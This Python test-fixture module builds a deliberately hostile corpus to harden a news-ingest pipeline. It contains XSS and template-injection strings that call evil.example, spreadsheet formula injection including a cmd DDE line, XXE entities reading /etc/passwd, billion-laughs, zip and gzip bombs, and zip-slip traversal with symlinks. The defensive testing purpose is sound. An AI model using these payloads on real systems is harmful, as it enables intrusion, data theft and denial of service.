"""Reports that want to run, load, send, fill or break something, built in code: a file name for each, and its bytes.

`WORDS` are news of an invented place, so that hostile words get into claims, findings and tables and not only into texts.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import random
import stat
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

from ingest.making import feed, packed, page, telegram, warc, word

ELSEWHERE = "evil.example"
ESCAPED = "corroborate-escaped"
"""What members that try to leave their archive are called; no such file may ever lie anywhere."""
RUN = (
    "<script>window.ran=1;fetch('http://evil.example/s')</script>",
    "\"><img src=//evil.example/i onerror='window.ran=2'>",
    "'><svg/onload=window.ran=3>",
    "</title></textarea></style></script><script>window.ran=4</script>",
    "<iframe srcdoc=\"<script>parent.ran=5</script>\"></iframe>",
    "<a href=javascript:window.ran=6 hx-get=//evil.example/h hx-trigger=load hx-on:load=window.ran=7>x</a>",
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/m'>",
    "<link rel=stylesheet href=http://evil.example/c><style>@import 'http://evil.example/d';</style>",
    "<form action=http://evil.example/f><input name=csrf autofocus onfocus=window.ran=8>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7}<%= 7*7 %>",
    "--><!--<img src=x onerror=window.ran=9>]]><![CDATA[<script>window.ran=10</script>",
)
FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "%0A=1",
)  # fmt: skip
UNSEEN = "\u202egnp.exe\u202c \u2066in\u2069 zero\u200bwidth\u200d \ufeffmark \U000e0041tag \u0000 \u001b[2J \u0085 \u2028line"
TOWN = "Ardo"


def told(by: str, number: int = 16) -> str:
    """A report whose speaker, place, number and sentence hold hostile words."""
    return (
        f"{TOWN}, May 3 ({by}) - At least {number} people were killed when a ferry sank off {TOWN} on Monday {by}, the mayor {by} said.\n\n"
        f"“We have counted {number} bodies {by},” Police Chief Oda {by} told reporters. A doctor in the {by} hospital said 40 were injured."
    )


def _zip(members: dict[str, bytes | str], links: dict[str, str] | None = None) -> bytes:
    made = io.BytesIO(packed(members))
    with zipfile.ZipFile(made, "a") as archive:
        for name, target in (links or {}).items():
            link = zipfile.ZipInfo(name)
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, target)
    return made.getvalue()


def _zeros(size: int) -> bytes:
    """A gzip stream that unpacks to so many zeros; made piece by piece."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as packed_:
        for _ in range(size // 1_000_000):
            packed_.write(b"\0" * 1_000_000)
    return out.getvalue()


def _bomb(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("big.txt", "w") as member:
        for _ in range(size // 1_000_000):
            member.write(b"0" * 1_000_000)
    return out.getvalue()


def _nested(depth: int) -> bytes:
    data: bytes = packed({"1.txt": told("nested")})
    for n in range(depth):
        data = packed({f"{n}.zip": data})
    return data


def _lying(length: str) -> bytes:
    """A WARC whose record says that it is `length` long."""
    body = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 99999999999\r\n\r\n" + page(f"<p>{told('lie')}</p>" * 3).encode()
    head = "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://evil.example/\r\nWARC-Date: 2031-05-03T10:00:00Z\r\n"
    head += f"WARC-Record-ID: <urn:uuid:1>\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {length}\r\n\r\n"
    return head.encode() + body + b"\r\n\r\n"


def _parts(count: int) -> bytes:
    """A mail with so many parts."""
    part = "--b\r\nContent-Type: text/plain; name=\"p.txt\"\r\nContent-Disposition: attachment; filename=\"p.txt\"\r\n\r\nx\r\n"
    head = "From: a@evil.example\r\nSubject: parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return (head + part * count + "--b--\r\n").encode()


def _headers(payload: str) -> bytes:
    """A mail with hostile headers and the name of an attachment."""
    kept = payload.replace("\r", " ").replace("\n", " ")
    coded = f"=?utf-8?b?{base64.b64encode(kept.encode()).decode()}?="
    head = f"From: {coded} <x@evil.example>\r\nTo: {coded}\r\nSubject: {coded}\r\nDate: Sat, 03 May 2031 21:40:00 +0200\r\n"
    head += "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    body = f"<p>{told(payload)}</p><img src=http://evil.example/pixel>\r\n"
    tail = f"--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"../../{coded}.txt\"\r\n\r\n"
    tail += f"{told('file')}\r\n--b--\r\n"
    return (head + body + tail).encode()


def _entities(kind: str) -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE {kind} [<!ENTITY l0 "ha">{laughs}<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % r SYSTEM "http://evil.example/d">]>'
    return doctype.encode()


def _feed_bomb() -> bytes:
    item = "<item><title>&l9;</title><description>&x;</description></item>"
    return feed(item).encode().replace(b"?>", b"?>" + _entities("rss"), 1)


def _word_bomb() -> bytes:
    with zipfile.ZipFile(io.BytesIO(word(told("word")))) as source:
        members: dict[str, bytes | str] = {n: source.read(n) for n in source.namelist()}
    held = members["word/document.xml"]
    assert isinstance(held, bytes)
    members["word/document.xml"] = held.replace(b"?>", b"?>" + _entities("w"), 1).replace(b"Ardo", b"&l9;")
    return packed(members)


def _workbook(cells: tuple[str, ...]) -> bytes:
    """A listing with formulas in its cells."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(("file", "publisher", "published", "title", "url"))
    for n, cell in enumerate(cells):
        book.active.append((f"{n}.txt", cell.strip(), "2031-05-03", cell.strip(), cell.strip()))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _noise(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)  # noqa: S311 - bytes, no key


def _crossed() -> bytes:
    """A page that is damaged on purpose: unclosed, crossed, with nulls and half characters in it."""
    return b"<html><title>\xff\xfe</title><body><p><b><i></p>\x00\xed\xa0\x80<table><tr><p>" + told("<x\x00>").encode() * 4 + b"<!--"


def _listed(payloads: tuple[str, ...]) -> bytes:
    """A folder in a zip whose listing has hostile cells."""
    rows = ["file,publisher,published,title,url"]
    members: dict[str, bytes | str] = {}
    for n, payload in enumerate(payloads):
        cell = payload.replace('"', '""')
        rows.append(f'{n}.txt,"{cell}",2031-05-0{n % 9 + 1},"{cell}","{cell if n % 2 else "javascript:window.ran=11//" + cell}"')
        members[f"{n}.txt"] = told(payload, 16 + n)
    rows += ["../../outside.txt,x,,,", "/etc/passwd,x,,,", "C:\\x.txt,x,,,"]
    return packed({**members, "reports.csv": "\n".join(rows)})


DIGITS = "9" * 100_000
FILES: dict[str, Callable[[], bytes]] = {
    "texts-with-script.zip": lambda: packed({f"{p[:40].replace('/', '_')}.txt": told(p, 16 + n) for n, p in enumerate(RUN)}),
    "listed.zip": lambda: _listed((*RUN, *FORMULAS, UNSEEN)),
    "listed-by-workbook.zip": lambda: packed(
        {"reports.xlsx": _workbook(FORMULAS), **{f"{n}.txt": told(f) for n, f in enumerate(FORMULAS)}},
    ),
    "page.html": lambda: page(
        "".join(f"<p>{told(p)}</p>" for p in RUN), head=f"<title>{RUN[3]}</title><meta name=author content=\"{RUN[2]}\">",
    ).encode(),
    "page-escaped.html": lambda: page("".join(f"<p>{told(p.replace('&', '&amp;').replace('<', '&lt;'))}</p>" for p in RUN)).encode(),
    "mails.zip": lambda: packed({f"{n}.eml": _headers(p) for n, p in enumerate((*RUN, UNSEEN))}),
    "tip.yaml": lambda: f"kind: tip\nwhat: |\n  {told(RUN[0]).replace(chr(10), ' ')}\nwhen: 2031-05-03\nsource: \"{'<b>x'}\"\n".encode(),
    "tip-good.yaml": lambda: f"kind: tip\nwhat: |\n  {told(RUN[1]).replace(chr(10), ' ')}\nwhen: 2031-05-03\nsource: Heron-4\n".encode(),
    "feed.xml": lambda: feed(*(
        f"<item><title><![CDATA[{p.replace(']]>', '')}]]></title><link>javascript:window.ran=12</link><guid>{n}</guid>"
        f"<description><![CDATA[{told(p.replace(']]>', ''))}]]></description></item>" for n, p in enumerate(RUN)
    )).encode(),
    "lines.jsonl": lambda: "\n".join(
        json.dumps({"text": told(p), "title": p, "publisher": p, "url": p, "published": "2031-05-03"}) for p in (*RUN, *FORMULAS, UNSEEN)
    ).encode(),
    "telegram.json": lambda: telegram(*({"text": told(p), "from": p} for p in RUN)).encode(),
    "unseen.txt": lambda: told(UNSEEN).encode("utf-8", "surrogatepass"),
    "halves.jsonl": lambda: (
        '{"text": "' + told("\\ud800 \\udfff").replace("\n", " ") + '", "title": "\\udc00", "publisher": "\\ud800"}'
    ).encode(),
    "nulls.txt": lambda: told("\0\0\0").encode() + b"\0" * 1000 + b"\xff\xfe\xed\xa0\x80",
    "one-line.txt": lambda: (told("x").replace("\n", " ") + " ").encode() * (20_000_000 // len(told("x").replace("\n", " ") + " ")),
    "one-word.txt": lambda: b"a" * 20_000_000,
    "one-word-short.txt": lambda: b"a" * 1_900_000,
    "long-line.txt": lambda: (told("x").replace("\n", " ") + " ").encode() * 300,
    "one-sentence.txt": lambda: ("At least 16 people were killed and " * 6_000 + "said the mayor.").encode(),
    "only-numbers.txt": lambda: " ".join(str(n) for n in range(30_000)).encode(),
    "only-quotes.txt": lambda: ("“he said “she said " * 12_000).encode(),
    "only-days.txt": lambda: (told("x") + "\n\n" + "on Monday " * 20_000).encode(),
    "only-dates.txt": lambda: (told("x") + "\n\n" + "May 3, " * 20_000).encode(),
    "only-names.txt": lambda: (told("x") + "\n\n" + "Mayor Oda Renn, " * 10_000).encode(),
    "only-speech.txt": lambda: (told("x") + "\n\n" + "“We saw it,” he said. " * 4_000).encode(),
    "only-brackets.txt": lambda: b"(" * 200_000 + b")" * 200_000,
    "deep.html": lambda: ("<html><body>" + "<div>" * 100_000 + told("deep") + "</div>" * 100_000).encode(),
    "deep.json": lambda: b'{"messages": ' + b"[" * 100_000,
    "deep.jsonl": lambda: b"[" * 100_000 + b"]" * 100_000,
    "deep.zip": lambda: _nested(30),
    "bomb.zip": lambda: _bomb(300_000_000),
    "bombs.zip": lambda: packed({f"{n}.gz": _zeros(60_000_000) for n in range(8)}),
    "bomb.txt.gz": lambda: _zeros(400_000_000),
    "bomb.warc.gz": lambda: gzip.compress(_lying("400000000"), mtime=0) + _zeros(200_000_000),
    "outside.zip": lambda: _zip(
        {f"../../{ESCAPED}.txt": told("up"), f"/tmp/{ESCAPED}.txt": "x", f"C:\\{ESCAPED}.txt": "x", f"a/../../{ESCAPED}": "x"},  # noqa: S108
        {"link.txt": "/etc/passwd", "folder": "/"},
    ),
    "many.zip": lambda: packed({f"{n}.txt": "x" for n in range(500)}),
    **{f"lying-{n}.warc": (lambda length=length: _lying(length)) for n, length in enumerate(("9" * 30, "-1", "10", "0", "x", "1e9"))},
    "cut.warc.gz": lambda: warc(("http://evil.example/", "text/html", page(f"<p>{told('cut')}</p>" * 4).encode()))[:-40],
    "none.pdf": lambda: b"%PDF-1.7\n" + _noise(1, 50_000),
    "loops.pdf": lambda: (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9999999>>endobj "
        b"trailer<</Root 1 0 R>>"
    ),
    "entities.xml": _feed_bomb,
    "entities.docx": _word_bomb,
    "none.docx": lambda: packed({"word/document.xml": b"<" * 100_000, "[Content_Types].xml": b"x"}),
    "digits.txt": lambda: (
        f"{told('x')}\n\nAt least {DIGITS[:7_000]} people were killed in {TOWN} on Monday, the mayor said. Another 1e999 were hurt "
        f"and {'1,' * 300}000 people fled. Police said {'９' * 400} people and {'million ' * 200}people died. "
        f"He said 10{'0' * 400} people were killed."
    ).encode(),
    "only-digits.txt": lambda: f"{told('x')}\n\nAt least {DIGITS} people were killed in {TOWN} on Monday, the mayor said.".encode(),
    "years.txt": lambda: told(f"on May 99, {DIGITS[:5000]}, 0000-00-00 and 2031-13-45 at 99:99").encode(),
    "parts.eml": lambda: _parts(10_000),
    "headers.eml": lambda: b"Subject: " + b"x" * 5_000_000 + b"\r\n" + b"Received: y\r\n" * 100_000 + b"\r\n" + told("mail").encode(),
    "crossed.html": _crossed,
    "noise.bin": lambda: _noise(2, 200_000),
    "noise.txt": lambda: _noise(3, 200_000).replace(b"\0", b" "),
    "empty.txt": lambda: b"",
    "cells.csv": lambda: ("a,b\n" + "\n".join(f'"{f}",{f}' for f in FORMULAS)).encode(),
}
"""The corpus: a name, and what makes the bytes."""

TELLING = (
    "texts-with-script.zip", "listed.zip", "listed-by-workbook.zip", "page.html", "page-escaped.html", "mails.zip", "tip.yaml",
    "tip-good.yaml", "feed.xml", "lines.jsonl", "telegram.json", "unseen.txt", "halves.jsonl", "nulls.txt", "digits.txt",
    "outside.zip", "crossed.html",
)  # fmt: skip
"""Those whose hostile words come to be shown; the others want to fill or to break something."""


def build(folder: Path, names: Iterable[str] = FILES) -> list[Path]:
    """Write the corpus, or some of it, into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        (folder / name).write_bytes(FILES[name]())
    return [folder / name for name in names]
